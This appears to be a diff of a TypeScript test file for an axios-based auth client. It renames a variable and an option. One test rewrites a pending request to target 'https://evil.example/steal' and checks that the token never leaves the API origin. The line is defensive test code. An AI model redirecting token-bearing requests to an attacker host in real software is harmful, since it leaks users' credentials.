@@ -133,14 +133,14 @@ it('sends to where it was decided that the token may go, whatever becomes of the
   auth.attach(api)
   server.revokeAccessTokens()
   const gate = browser.hold('/refresh')
-  let kept: InternalAxiosRequestConfig | undefined
+  let stored: InternalAxiosRequestConfig | undefined
   api.interceptors.request.use((config) => {
-    kept = config
+    stored = config
     return config
   })
   const sending = api.get('/me')
   await gate.arrived(1)
-  Object.assign(kept ?? {}, { url: '/steal', baseURL: 'https://evil.example' })
+  Object.assign(stored ?? {}, { url: '/steal', baseURL: 'https://evil.example' })
   gate.release()
   expect((await sending).status).toBe(200)
   expect(browser.requests.filter(({ url }) => !url.startsWith(apiOrigin))).toEqual([])
@@ -202,7 +202,7 @@ it('serves one instance for two clients, each its own origin', async () => {
   const { auth, browser, callsTo } = await createBed()
   let issued = 0
   const renew = async () => ({ access_token: `token-${++issued}` })
-  const second = createAuthClient({ baseURL: other.url, renewWith: renew })
+  const second = createAuthClient({ baseURL: other.url, refreshWith: renew })
   onTestFinished(second.dispose)
   await second.login(renew)
   const api = axios.create({ baseURL: apiOrigin })
